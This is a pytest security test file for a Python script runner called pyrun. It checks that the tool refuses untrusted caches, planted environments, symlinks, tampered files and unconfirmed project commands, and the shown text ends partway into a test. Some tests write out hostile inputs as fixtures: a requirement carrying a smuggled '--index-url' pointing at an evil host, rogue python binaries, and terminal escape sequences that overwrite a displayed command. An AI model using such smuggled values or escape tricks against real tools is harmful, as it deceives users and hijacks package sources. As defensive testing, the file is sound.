"""Issue 10's promises, tried as an attacker and as an unlucky user would: pyrun runs only what
the script declared, from a cache only its user controls (docs/reliability.md, threat model)."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pyrun import layout
from tests.helpers import (
    Runner,
    assert_fails,
    body,
    cold,
    entry_of,
    env_of,
    lock_is_free,
    wait_until,
    write,
)

ROOT = os.geteuid() == 0 if hasattr(os, "geteuid") else False
OTHER_UID = 65534  # nobody


def owned_by_other(path: Path) -> None:
    if not ROOT:
        pytest.skip("needs root to give a file to another user")
    os.chown(path, OTHER_UID, -1, follow_symlinks=False)


# -- class 1: a cache pyrun does not own is not trusted ---------------------------------------


def test_a_cache_others_can_write_to_is_refused(pyrun: Runner, tmp_path: Path) -> None:
    cache = tmp_path / "shared-cache"
    cache.mkdir()
    cache.chmod(0o777)
    script = write(tmp_path / "s.py", body("six"))
    out = pyrun(str(script), PYRUN_CACHE_DIR=str(cache))
    assert_fails(out, 73, f"cache at {cache} cannot be used: everyone can write to it",
                 "PYRUN_CACHE_DIR")
    assert os.listdir(cache) == []  # nothing was created in it
    info = pyrun("cache", "info", PYRUN_CACHE_DIR=str(cache))
    assert info.returncode == 73 and "everyone can write to it" in info.stderr


def test_a_cache_of_another_user_is_refused(pyrun: Runner, tmp_path: Path) -> None:
    cache = tmp_path / "theirs"
    cache.mkdir(mode=0o700)
    owned_by_other(cache)
    out = pyrun(str(write(tmp_path / "s.py", "print(1)\n")), PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 73 and f"uid {OTHER_UID}" in out.stderr, out.stderr


def test_a_planted_index_entry_is_never_executed(pyrun: Runner, tmp_path: Path) -> None:
    """Another user's index file, or one naming an environment outside the cache, is not
    followed: the script runs in the environment pyrun builds, the planted program never."""
    cache, script = tmp_path / "cache", write(tmp_path / "p.py", body("six"))
    cold(pyrun, cache, script)
    entries = [p for p in (cache / "index").glob("??/*") if not p.name.startswith(".")]
    assert len(entries) == 2  # the fast key's and the block key's (issue 24)
    evil = tmp_path / "evil-env"
    (evil / "bin").mkdir(parents=True)
    ran = tmp_path / "planted-program-ran"
    (evil / "bin" / "python").write_text(f"#!/bin/sh\ntouch {ran}\n")
    (evil / "bin" / "python").chmod(0o755)
    (evil / layout.ENV_MARKER).write_text("{}")
    base = sys.executable
    for index in entries:  # each names a directory elsewhere
        index.write_text(layout.index_text(str(evil), base, [], inputs=("none", "x")))
    out = pyrun(str(script), PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 0 and out.stdout.split() == ["six"], out.stderr
    assert "not an environment of this cache" in out.stderr and not ran.exists()
    if ROOT:  # the index files themselves belong to another user now
        for index in entries:
            index.write_text(layout.index_text(str(env_of(cache)), base, []))
            owned_by_other(index)
        out = pyrun(str(script), PYRUN_CACHE_DIR=str(cache))
        assert out.returncode == 0 and "not trustworthy" in out.stderr, out.stderr
        assert all(i.stat().st_uid == os.getuid() for i in entries)  # rewritten, as ours


def test_a_pool_entry_replaced_by_a_symlink_is_not_followed(pyrun: Runner, tmp_path: Path) -> None:
    cache, script = tmp_path / "cache", write(tmp_path / "l.py", body("six"))
    cold(pyrun, cache, script)
    entry = entry_of(cache, "six")
    target = tmp_path / "their-dir"
    target.mkdir(mode=0o555)
    before = stat.S_IMODE(target.stat().st_mode)
    for d, _dirs, _files in os.walk(entry):
        os.chmod(d, 0o755)
    shutil.rmtree(entry)
    entry.symlink_to(target)
    out = pyrun("-U", str(script), PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 0 and out.stdout.split() == ["six"], out.stderr
    assert entry.is_dir() and not entry.is_symlink()  # a real entry again
    assert stat.S_IMODE(target.stat().st_mode) == before  # the link's target untouched


# -- class 2: requirement strings cannot smuggle options --------------------------------------


def test_with_and_block_requirements_holding_a_line_break_are_refused(
    pyrun: Runner, tmp_path: Path
) -> None:
    script = write(tmp_path / "w.py", "print(1)\n")
    out = pyrun("--with", "idna\n--index-url=http://evil.invalid/simple", str(script))
    assert out.returncode == 64 and "control character" in out.stderr, out.stderr
    block = write(tmp_path / "b.py", '# /// script\n# dependencies = '
                  '["idna @ https://x.invalid/idna-3.7-py3-none-any.whl\\n--find-links /tmp"]\n'
                  "# ///\n")
    out = pyrun(str(block))
    assert out.returncode == 65 and "control character" in out.stderr, out.stderr


# -- class 3: a script is whatever `python SCRIPT` would run ----------------------------------


def test_a_dash_named_script_runs_as_a_file(pyrun: Runner, tmp_path: Path) -> None:
    write(tmp_path / "-c", "import sys; print('the file ran', sys.argv[1:])\n")
    out = pyrun("--", "-c", "print('the argument ran as code')", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("the file ran") and "as code" not in out.stdout.split("[")[0]


def test_a_script_from_a_fifo_is_read_once_and_run(pyrun: Runner, tmp_path: Path) -> None:
    import threading

    fifo = tmp_path / "pipe.py"
    os.mkfifo(fifo)
    text = ('# /// script\n# dependencies = ["six"]\n# ///\n'
            'import six, sys\nprint("piped", six.__name__, sys.argv[1:])\n')

    def feed() -> None:
        with open(fifo, "w") as f:
            f.write(text)

    for _ in range(2):  # cold, then warm
        writer = threading.Thread(target=feed)
        writer.start()
        out = pyrun(str(fifo), "a1", PYRUN_CACHE_DIR=str(tmp_path / "cache"))
        writer.join(timeout=30)
        assert out.returncode == 0 and out.stdout.strip() == "piped six ['a1']", out.stderr


def test_a_bom_script_gets_its_own_dependencies(pyrun: Runner, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cold(pyrun, cache, write(tmp_path / "plain.py", "print('no metadata')\n"))
    bom = tmp_path / "bom.py"
    bom.write_bytes(b"\xef\xbb\xbf" + body("six").encode())
    for _ in range(2):  # cold, then warm
        assert cold(pyrun, cache, bom).stdout.split() == ["six"]


# -- class 6: errors that say the right thing -------------------------------------------------


def in_tiny_filesystem(pyrun: Runner, cache: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``pyrun ARGS`` with its cache on a 512 KiB tmpfs, mounted in a user and mount namespace
    of its own (nothing on the machine is changed)."""
    unshare = shutil.which("unshare")
    probe = [unshare or "unshare", "-rm", "sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"]
    if unshare is None or subprocess.run(probe, capture_output=True).returncode != 0:
        pytest.skip("needs unshare -rm and tmpfs mounts (user namespaces)")
    cache.mkdir()
    shell = 'mount -t tmpfs -o size=512k,mode=0700 tmpfs "$1" && shift && exec "$@"'
    return subprocess.run(
        [unshare, "-rm", "sh", "-c", shell, "sh", str(cache), sys.executable, "-m", "pyrun", *args],
        capture_output=True, text=True, env=pyrun.env(PYRUN_CACHE_DIR=str(cache)), timeout=600,
    )


def test_a_full_disk_is_exit_73_naming_what_to_do(pyrun: Runner, tmp_path: Path) -> None:
    script = write(tmp_path / "big.py", body("pygments"))
    out = in_tiny_filesystem(pyrun, tmp_path / "cache", str(script))
    assert_fails(out, 73, "PYRUN_CACHE_DIR")
    assert out.stderr.count("pyrun: error:") == 1, out.stderr
    assert "disk is full" in out.stderr or "No space left on device" in out.stderr, out.stderr


def test_a_git_source_on_an_unreachable_host_is_a_network_error(
    pyrun: Runner, tmp_path: Path
) -> None:
    script = write(tmp_path / "g.py", '# /// script\n# dependencies = '
                   '["foo @ git+https://no-such-host.invalid/x.git"]\n# ///\n')
    out = pyrun(str(script), UV_HTTP_RETRIES="0")
    assert out.returncode == 69 and "cannot be reached" in out.stderr, out.stderr


def test_bad_settings_are_one_line_errors(pyrun: Runner, tmp_path: Path) -> None:
    script = write(tmp_path / "s.py", "print(1)\n")
    out = pyrun(str(script), PYRUN_CACHE_DIR=str(tmp_path / "a\nb"))
    assert_fails(out, 73, "control character")
    for value in ("-1", "inf", "nan", "soon"):
        out = pyrun("wsp", "--timeout", value, "environment/list", cwd=tmp_path)
        assert_fails(out, 64, "number of seconds above 0")


# -- class 4: damaged state is healed ---------------------------------------------------------


def test_a_non_utf8_index_entry_is_rebuilt(pyrun: Runner, tmp_path: Path) -> None:
    cache, script = tmp_path / "cache", write(tmp_path / "i.py", body("six"))
    cold(pyrun, cache, script)
    for index in (p for p in (cache / "index").glob("??/*") if not p.name.startswith(".")):
        index.write_bytes(b"\xff\xfe\x00garbage\n")
    out = cold(pyrun, cache, script)
    assert out.stdout.split() == ["six"] and "not UTF-8" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr
    assert cold(pyrun, cache, script).stderr == ""  # healed: warm and quiet again


@pytest.mark.parametrize("content", [b"[1, 2]", b'{"/usr/bin/python3": {"answer": {"v": 1}}}',
                                     b"\xff"])
def test_an_interpreter_cache_of_the_wrong_shape_is_asked_again(
    pyrun: Runner, tmp_path: Path, content: bytes
) -> None:
    cache = tmp_path / "cache"
    script = write(tmp_path / "q.py",
                   '# /// script\n# requires-python = ">=3.9"\n# ///\nprint(7)\n')
    cold(pyrun, cache, script)
    (cache / "interpreters.json").write_bytes(content)
    out = cold(pyrun, cache, script, "-U")
    assert out.stdout.strip() == "7" and "Traceback" not in out.stderr, out.stderr
    (cache / "interpreters.json").write_bytes(content)
    assert pyrun("cache", "clean", PYRUN_CACHE_DIR=str(cache)).returncode == 0
    assert not (cache / "interpreters.json").exists()  # clean leaves nothing damaged behind


def test_an_emptied_activation_file_is_repaired_by_upgrade(pyrun: Runner, tmp_path: Path) -> None:
    cache, script = tmp_path / "cache", write(tmp_path / "a.py", body("six"))
    cold(pyrun, cache, script)
    (pth,) = env_of(cache).glob("lib/python*/site-packages/_pyrun_pool.pth")
    pth.write_text("")
    out = cold(pyrun, cache, script, "-U")
    assert out.stdout.split() == ["six"] and "was changed since it was written" in out.stderr
    (pth,) = env_of(cache).glob("lib/python*/site-packages/_pyrun_pool.pth")
    assert pth.read_text().strip()


@pytest.mark.parametrize("damage", ["emptied", "truncated", "rewritten, same size"])
def test_a_damaged_activation_file_is_noticed_by_the_warm_path(
        pyrun: Runner, tmp_path: Path, damage: str) -> None:
    """The warm path compares the activation file's content (issue 22): a damaged one is
    rebuilt by a plain run, never left for the script to die of its own import error."""
    cache, script = tmp_path / "cache", write(tmp_path / "a.py", body("six"))
    cold(pyrun, cache, script)
    (pth,) = env_of(cache).glob("lib/python*/site-packages/_pyrun_pool.pth")
    text = pth.read_text()
    if damage == "emptied":
        pth.write_text("")
    elif damage == "truncated":
        pth.write_text(text[: len(text) // 2])
    else:
        pth.write_text(text.replace("six", "xis"))
    out = pyrun(str(script), "-v", PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 0 and out.stdout.split() == ["six"], out.stderr
    assert f"{pth} changed" in out.stderr
    (pth,) = env_of(cache).glob("lib/python*/site-packages/_pyrun_pool.pth")
    assert pth.read_text() == text


def test_dead_runs_leftovers_in_refs_are_removed(pyrun: Runner, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cold(pyrun, cache, write(tmp_path / "r.py", "print(1)\n"))
    leftover = cache / "refs" / ".tmp-999999999-abc.json"
    fresh = cache / "refs" / ".tmp-999999999-def.json"
    for path in (leftover, fresh):
        path.write_text("{")
    hours_ago = time.time() - 2 * 3600  # write_atomic's temporaries take no lock: age decides
    os.utime(leftover, (hours_ago, hours_ago))
    cold(pyrun, cache, write(tmp_path / "r2.py", "# /// script\n# dependencies = []\n# ///\n"))
    assert not leftover.exists()
    assert fresh.exists()  # a run may be between its write and its rename


# -- class 7: projects other users control ----------------------------------------------------


def wsp_project(tmp_path: Path) -> Path:
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".git").mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    return project


def test_wsp_does_not_adopt_another_users_project(pyrun: Runner, tmp_path: Path) -> None:
    """Their .venv's python would run as you: refused (77) unless your setting lists it."""
    project, config = wsp_project(tmp_path), tmp_path / "config"
    config.mkdir()
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    ran = tmp_path / "their-python-ran"
    (project / ".venv" / "bin" / "python").write_text(f"#!/bin/sh\ntouch {ran}\n")
    (project / ".venv" / "bin" / "python").chmod(0o755)
    owned_by_other(project)
    out = pyrun("wsp", "run", "--", "python", "-c", "1", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert out.returncode == 77 and "does not adopt it" in out.stderr, out.stderr
    assert "safe-directories" in out.stderr and not ran.exists()
    (config / "config.toml").write_text(f'[workflow]\nsafe-directories = ["{project}"]\n')
    listed = pyrun("wsp", "environment/list", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert listed.returncode == 0, listed.stderr


def test_wsp_delete_does_not_follow_a_symlink_out_of_the_project(
    pyrun: Runner, tmp_path: Path
) -> None:
    from pyrun.wsp.server import project_server

    project = wsp_project(tmp_path)
    outside = tmp_path / "precious"
    (outside / "bin").mkdir(parents=True)
    (outside / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (outside / "keep").write_text("mine")
    (project / ".venvs").mkdir()
    (project / ".venvs" / "link").symlink_to(outside)
    (project / ".python-envs").write_text(".venvs/link\n")
    project_server(project).call("environment/delete", {"id": ".venvs/link"})
    assert (outside / "keep").read_text() == "mine"
    assert (project / ".python-envs").read_text() == ""


def test_wsp_create_refuses_a_symlinked_python_envs_before_creating(
    pyrun: Runner, tmp_path: Path
) -> None:
    from pyrun.wsp.jsonrpc import RpcError
    from pyrun.wsp.server import project_server

    project = wsp_project(tmp_path)
    (tmp_path / "elsewhere").write_text("")
    (project / ".python-envs").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(RpcError, match="symbolic link") as refused:
        project_server(project).call("environment/create", {"name": "dev"})
    assert refused.value.code == -31901 and refused.value.data["reason"] == \
        "unwritable .python-envs"  # a refusal with its reason, never -32603
    assert not (project / ".venvs" / "dev").exists()  # no orphan venv


@pytest.mark.parametrize("bad", ["envs/bad\x00line", "envs/" + "x" * 5000,
                                 "envs/" + "y" * 300 + "/z"],
                         ids=["control character", "a 5,000-character line", "a long name"])
def test_one_bad_python_envs_line_costs_only_that_line(
    pyrun: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
) -> None:
    import io

    monkeypatch.delenv("VIRTUAL_ENV", raising=False)  # an activated venv would be listed too

    from pyrun.wsp.server import project_server

    project = wsp_project(tmp_path)
    good = project / "envs" / "ok"
    (good / "bin").mkdir(parents=True)
    (good / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
    (project / ".python-envs").write_text(f"{bad}\nenvs/ok\n")
    log = io.StringIO()
    listed = project_server(project, log=log).call("environment/list")
    assert [e["id"] for e in listed] == ["envs/ok"]
    assert ".python-envs:1: skipped" in log.getvalue()


# -- class 8: tampering -----------------------------------------------------------------------


def _rewrite_keeping_size_and_mtime(entry: Path, target: Path) -> None:
    """Change one byte of ``target`` (in the pool entry ``entry``), its size and mtime kept."""
    st = target.stat()
    data = bytearray(target.read_bytes())
    data[-2] = (data[-2] + 1) % 256
    for d, _dirs, _files in os.walk(entry):
        os.chmod(d, 0o755)
    os.unlink(target)  # a new inode: the file may be a hardlink shared with uv's cache
    target.write_bytes(bytes(data))
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))


def test_cache_verify_finds_a_file_changed_with_its_size_and_mtime_kept(
    pyrun: Runner, tmp_path: Path
) -> None:
    cache, script = tmp_path / "cache", write(tmp_path / "v.py", body("six"))
    cold(pyrun, cache, script)
    clean = pyrun("cache", "verify", PYRUN_CACHE_DIR=str(cache))
    assert clean.returncode == 0 and "0 damaged" in clean.stdout, clean.stderr
    entry = entry_of(cache, "six")
    _rewrite_keeping_size_and_mtime(entry, entry / "site-packages" / "six.py")
    out = pyrun("cache", "verify", PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 0 and "differs from its wheel's RECORD" in out.stdout, out.stdout
    assert "1 damaged" in out.stdout and not entry.exists()
    again = cold(pyrun, cache, script)  # reinstalled
    assert again.stdout.split() == ["six"]
    assert "0 damaged" in pyrun("cache", "verify", PYRUN_CACHE_DIR=str(cache)).stdout


def test_bytecode_rewritten_with_its_size_and_mtime_kept_is_found_by_upgrade_and_verify(
    pyrun: Runner, tmp_path: Path
) -> None:
    """RECORD lists no .pyc: the entry's marker holds every file's sha256 once the compiler
    has written its bytecode; -U and `cache verify` compare them (issue 22)."""
    cache, script = tmp_path / "cache", write(tmp_path / "v.py", body("six"))
    cold(pyrun, cache, script)  # the tests' runs compile in the foreground
    entry = entry_of(cache, "six")
    (pyc,) = (entry / "site-packages" / "__pycache__").glob("six.*.pyc")
    _rewrite_keeping_size_and_mtime(entry, pyc)
    upgraded = cold(pyrun, cache, script, "-U")
    assert upgraded.stdout.split() == ["six"]
    assert f"{pyc.relative_to(entry)} differs from its recorded sha256" in upgraded.stderr
    assert "0 damaged" in pyrun("cache", "verify", PYRUN_CACHE_DIR=str(cache)).stdout
    entry = entry_of(cache, "six")
    (pyc,) = (entry / "site-packages" / "__pycache__").glob("six.*.pyc")
    _rewrite_keeping_size_and_mtime(entry, pyc)
    out = pyrun("cache", "verify", PYRUN_CACHE_DIR=str(cache))
    assert "differs from its recorded sha256" in out.stdout and "1 damaged" in out.stdout, \
        out.stdout


# -- class 5: races and crashes (the storm is in test_stress.py) ------------------------------


def test_a_deleted_working_directory_never_marks_an_entry_compiled_without_bytecode(
    pyrun: Runner, tmp_path: Path
) -> None:
    """The background compiler works in the cache, not in the script's working directory
    (compileall's workers fail in a deleted one on Python 3.12+); and an entry is marked
    compiled only when its .pyc files are there."""
    import time

    from pyrun.engine.bytecode import has_bytecode

    cache, script = tmp_path / "cache", write(tmp_path / "k.py", body("six", "idna"))
    gone = tmp_path / "gone"
    gone.mkdir()
    shell = f'cd "{gone}" && rmdir "{gone}" && exec "$@"'
    for python in ("3.12", ""):
        args = ["--python", python] if python else []
        out = subprocess.run(["sh", "-c", shell, "sh", sys.executable, "-m", "pyrun", *args,
                              str(script)], capture_output=True, text=True,
                             env=pyrun.env(PYRUN_CACHE_DIR=str(cache), PYRUN_COMPILE="background"))
        assert out.returncode == 0 and out.stdout.split() == ["idna", "six"], out.stderr
        gone.mkdir()
    from tests.helpers import cmdline

    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and any(
            b"pyrun.engine.bytecode" in cmdline(int(p))
            for p in os.listdir("/proc") if p.isdigit()):
        time.sleep(0.2)
    flagged = 0
    for entry in (cache / "pool").iterdir():
        for flag in entry.glob("pyrun-compiled-*"):
            flagged += 1
            assert has_bytecode(entry / "site-packages", flag.name[len("pyrun-compiled-"):]), flag
    assert flagged > 0


def test_offline_with_a_wheel_not_in_the_cache_is_69(pyrun: Runner, tmp_path: Path) -> None:
    """uv's cache has the index pages and metadata (from a resolution) but not the wheel."""
    from uv import find_uv_bin

    uv_cache = tmp_path / "uv-cache"
    subprocess.run([str(find_uv_bin()), "pip", "compile", "-", "-q", "--python", sys.executable],
                   input="tomli-w\n", text=True, check=True, capture_output=True,
                   env={**os.environ, "UV_CACHE_DIR": str(uv_cache)})
    script = write(tmp_path / "o.py", '# /// script\n# dependencies = ["tomli-w"]\n# ///\n')
    out = pyrun("--offline", str(script), PYRUN_CACHE_DIR=str(tmp_path / "cache"),
                UV_CACHE_DIR=str(uv_cache))
    assert_fails(out, 69, "not in the cache")


def test_wsp_in_a_directory_with_nothing_to_adopt_is_fine(pyrun: Runner, tmp_path: Path) -> None:
    empty = tmp_path / "theirs-but-empty"
    empty.mkdir()
    owned_by_other(empty)
    out = pyrun("wsp", "environment/list", cwd=empty, PYRUN_CONFIG_DIR=str(tmp_path / "cfg"),
                VIRTUAL_ENV="")  # an activated venv would be listed too
    assert out.returncode == 0 and out.stdout.strip() == "[]", out.stderr
    (empty / ".python-envs").write_text("")  # now there is something to adopt
    served = pyrun("wsp", "serve", "--project", str(empty), PYRUN_CONFIG_DIR=str(tmp_path / "cfg"))
    assert served.returncode == 77 and "does not adopt it" in served.stderr, served.stderr


def test_a_cache_that_became_writable_by_others_is_refused_warm(
    pyrun: Runner, tmp_path: Path
) -> None:
    cache, script = tmp_path / "cache", write(tmp_path / "w.py", body("six"))
    cold(pyrun, cache, script)
    cache.chmod(0o777)
    out = pyrun(str(script), PYRUN_CACHE_DIR=str(cache))
    assert out.returncode == 73 and "everyone can write to it" in out.stderr, out.stderr


def test_rebuilding_an_environment_a_script_runs_in_waits_for_it(
    pyrun: Runner, tmp_path: Path
) -> None:
    """-U must replace an environment whose activation file changed; while a script still
    runs in it, pyrun says so instead of pulling the environment from under it."""
    cache = tmp_path / "cache"
    script = write(tmp_path / "slow.py", body("six").replace(
        "import importlib", "import sys, time\nif sys.argv[1:] == ['wait']:\n"
        "    print('started', flush=True); time.sleep(30)\nimport importlib"))
    cold(pyrun, cache, script)
    running = subprocess.Popen([sys.executable, "-m", "pyrun", str(script), "wait"],
                               env=pyrun.env(PYRUN_CACHE_DIR=str(cache)),
                               stdout=subprocess.PIPE, text=True)
    try:
        assert running.stdout is not None and running.stdout.readline().strip() == "started"
        (pth,) = env_of(cache).glob("lib/python*/site-packages/_pyrun_pool.pth")
        pth.write_text(pth.read_text() + "\n")
        out = pyrun("-U", str(script), PYRUN_CACHE_DIR=str(cache))
        assert out.returncode == 73 and "a running script uses it" in out.stderr, out.stderr
        assert running.poll() is None  # still running, its environment untouched
    finally:
        running.kill()
        running.communicate()
    marker = str(env_of(cache) / layout.ENV_MARKER)  # the killed script has let go of it
    wait_until(lambda: lock_is_free(marker), "the environment's shared lock released")
    assert cold(pyrun, cache, script, "-U").stdout.split() == ["six"]


def test_a_script_on_standard_input_runs(pyrun: Runner, tmp_path: Path) -> None:
    text = body("six")
    for _ in range(2):  # cold, then warm
        out = pyrun("-", input=text, PYRUN_CACHE_DIR=str(tmp_path / "cache"))
        assert out.returncode == 0 and out.stdout.split() == ["six"], out.stderr


def test_a_script_by_url_runs(pyrun: Runner, tmp_path: Path) -> None:
    """Served on the loopback interface (plain HTTP is refused anywhere else): a script runs,
    a 404 and an HTML page are one-line errors (66)."""
    import http.server
    import threading

    pages = {"/x.py": (body("six").encode(), "text/x-python"),
             "/page": (b"<!DOCTYPE html><html></html>", "text/html")}
    served: list[str] = []  # "200 /x.py", "304 /x.py"

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the http.server API
            found = pages.get(self.path)
            etag = f'"{hash(found[0])}"' if found else ""
            if found and self.headers.get("If-None-Match") == etag:
                served.append(f"304 {self.path}")
                self.send_response(304)
                self.end_headers()
                return
            served.append(f"{200 if found else 404} {self.path}")
            self.send_response(200 if found else 404)
            if found:
                self.send_header("Content-Type", found[1])
                self.send_header("ETag", etag)
            self.end_headers()
            if found:
                self.wfile.write(found[0])

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        for _ in range(2):
            out = pyrun(f"{base}/x.py", PYRUN_CACHE_DIR=str(tmp_path / "cache"))
            assert out.returncode == 0 and out.stdout.split() == ["six"], out.stderr
        assert served == ["200 /x.py", "304 /x.py"]  # the second run asked conditionally
        pages["/x.py"] = ((body("six") + "print('changed')\n").encode(), "text/x-python")
        changed = pyrun(f"{base}/x.py", PYRUN_CACHE_DIR=str(tmp_path / "cache"))
        assert changed.stdout.split()[-1] == "changed" and served[-1] == "200 /x.py"
        missing = pyrun(f"{base}/nope.py")
        assert_fails(missing, 66, "HTTP 404")
        assert_fails(pyrun(f"{base}/page"), 66, "an HTML page")
    finally:
        server.shutdown()
        server.server_close()
    plain = pyrun("http://example.invalid/x.py")
    assert plain.returncode == 66 and "HTTPS only" in plain.stderr, plain.stderr


# -- class 9 (issue 22): what pyrun wsp runs or reads must be yours -----------------------------


def _venv_that_tells(project: Path, ran: Path) -> None:
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (project / ".venv" / "bin" / "python").write_text(f"#!/bin/sh\ntouch {ran}\n")
    (project / ".venv" / "bin" / "python").chmod(0o755)


@pytest.mark.parametrize("planted", ["owned", "writable"])
def test_wsp_refuses_a_venv_another_user_could_have_written(
        pyrun: Runner, tmp_path: Path, planted: str) -> None:
    """Your project (a sticky /tmp, a team folder) holding another user's .venv, or one every
    user can write to: its python would run as you. Refused (77), as git refuses."""
    project, config, ran = wsp_project(tmp_path), tmp_path / "config", tmp_path / "ran"
    _venv_that_tells(project, ran)
    if planted == "owned":
        owned_by_other(project / ".venv" / "bin")
        why = f"uid {OTHER_UID}"
    else:
        (project / ".venv").chmod(0o777)
        why = "every user can write to it"
    out = pyrun("wsp", "run", "--", "python", "-c", "1", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert_fails(out, 77, why, "safe-directories")
    assert not ran.exists()


@pytest.mark.parametrize("planted", ["file", "directory"])
def test_a_setting_another_user_could_have_written_is_refused(
        pyrun: Runner, tmp_path: Path, planted: str) -> None:
    """Another user's [workflow] wsp in your config.toml would run as you in every project."""
    project, config = wsp_project(tmp_path), tmp_path / "config"
    config.mkdir(mode=0o700)
    ran = tmp_path / "ran"
    setting = config / "config.toml"
    setting.write_text(f'[workflow]\nwsp = {{cmd = ["touch", "{ran}"]}}\noverride = true\n')
    if planted == "file":
        owned_by_other(setting)
        why = f"uid {OTHER_UID}"
    else:
        config.chmod(0o777)
        why = "every user can write to it"
    out = pyrun("wsp", "environment/list", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert_fails(out, 78, str(setting if planted == "file" else config), why)
    assert not ran.exists()


def test_trust_answers_are_private_whatever_the_umask_and_never_taken_from_another_user(
        pyrun: Runner, tmp_path: Path) -> None:
    project, config = wsp_project(tmp_path), tmp_path / "home" / "config"
    (project / "pyproject.toml").write_text('[workflow]\nwsp = {cmd = ["false"]}\n')
    argv = [sys.executable, "-m", "pyrun", "wsp", "--trust", "environment/list"]
    trusted = subprocess.run(argv, cwd=project, env=pyrun.env(PYRUN_CONFIG_DIR=str(config)),
                             preexec_fn=lambda: os.umask(0), capture_output=True, text=True)
    assert trusted.returncode == 76, trusted.stderr  # trusted, started: `false` exits 1
    assert stat.S_IMODE(config.stat().st_mode) == 0o700
    assert stat.S_IMODE((config / "trusted.json").stat().st_mode) == 0o600
    # the remembered yes is taken ...
    assert pyrun("wsp", "environment/list", cwd=project,
                 PYRUN_CONFIG_DIR=str(config)).returncode == 76
    # ... but not from a file another user could have written
    owned_by_other(config / "trusted.json")
    out = pyrun("wsp", "environment/list", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert_fails(out, 77, "--trust")


def test_a_declaration_cannot_print_over_the_trust_question(
        pyrun: Runner, tmp_path: Path) -> None:
    """A cmd holding terminal escapes would erase the real command line and print a harmless
    one over it: the question (on a terminal) and the refusal (off one) show it escaped."""
    import pty

    project, config = wsp_project(tmp_path), tmp_path / "config"
    (project / "pyproject.toml").write_text(
        '[workflow]\nwsp = {cmd = ["sh", "-c", "evil\\u001b[2K\\r\\u001b[1Aharmless"]}\n')
    off = pyrun("wsp", "environment/list", cwd=project, PYRUN_CONFIG_DIR=str(config))
    assert_fails(off, 77, "evil\\033[2K\\r\\033[1Aharmless")
    assert "\x1b" not in off.stderr and "\r" not in off.stderr
    main, child = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "pyrun", "wsp", "environment/list"],
                            stdin=child, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            cwd=project, env=pyrun.env(PYRUN_CONFIG_DIR=str(config)))
    os.close(child)
    os.write(main, b"n\n")
    _out, err = proc.communicate(timeout=120)
    os.close(main)
    assert proc.returncode == 77 and b"[y/N]" in err, err
    assert b"evil\\033[2K\\r\\033[1Aharmless" in err and b"\x1b" not in err


def test_an_error_naming_a_path_with_escapes_shows_them_escaped(
        pyrun: Runner, tmp_path: Path) -> None:
    out = pyrun(str(tmp_path / "x\x1b[2J\x1b[31m.py"))
    assert_fails(out, 66, "x\\033[2J\\033[31m.py")
    assert "\x1b" not in out.stderr


@pytest.mark.parametrize("change", ["uv.toml", "tool.uv", "cmd file", ".python-version",
                                    "unrelated"])
def test_trust_covers_what_decides_the_code_run(pyrun: Runner, tmp_path: Path,
                                                change: str) -> None:
    """A yes covers the declaration, the files its cmd names in the project and the project's
    uv configuration (where the dependencies come from): changing any asks again (77 off a
    terminal); a change elsewhere does not (76: trusted, started, `sh` exits 1)."""
    project, config = wsp_project(tmp_path), tmp_path / "config"
    (project / "tools").mkdir()
    write(project / "tools" / "server.sh", "exit 1\n")
    declared = ('[project]\nname = "p"\nversion = "0"\n'
                '[workflow]\nwsp = {cmd = ["sh", "tools/server.sh"]}\n')
    (project / "pyproject.toml").write_text(declared)
    (project / "uv.toml").write_text('index-url = "https://pypi.org/simple"\n')

    def wsp(*flags: str) -> subprocess.CompletedProcess[str]:
        return pyrun("wsp", *flags, "environment/list", cwd=project,
                     PYRUN_CONFIG_DIR=str(config))

    assert wsp("--trust").returncode == 76
    assert wsp().returncode == 76  # remembered
    if change == "uv.toml":
        (project / "uv.toml").write_text('index-url = "https://evil.example/simple"\n')
    elif change == "tool.uv":
        (project / "pyproject.toml").write_text(
            declared + '[tool.uv]\nindex-url = "https://evil.example/simple"\n')
    elif change == "cmd file":
        write(project / "tools" / "server.sh", "echo evil; exit 1\n")
    elif change == ".python-version":  # it can name any interpreter
        write(project / ".python-version", f"{tmp_path / 'evil' / 'python'}\n")
    else:
        write(project / "README.md", "changed\n")
    out = wsp()
    if change == "unrelated":
        assert out.returncode == 76, out.stderr
    else:
        assert_fails(out, 77, "--trust")


def test_an_environment_python_envs_lists_is_never_run_when_another_user_could_write_it(
        pyrun: Runner, tmp_path: Path) -> None:
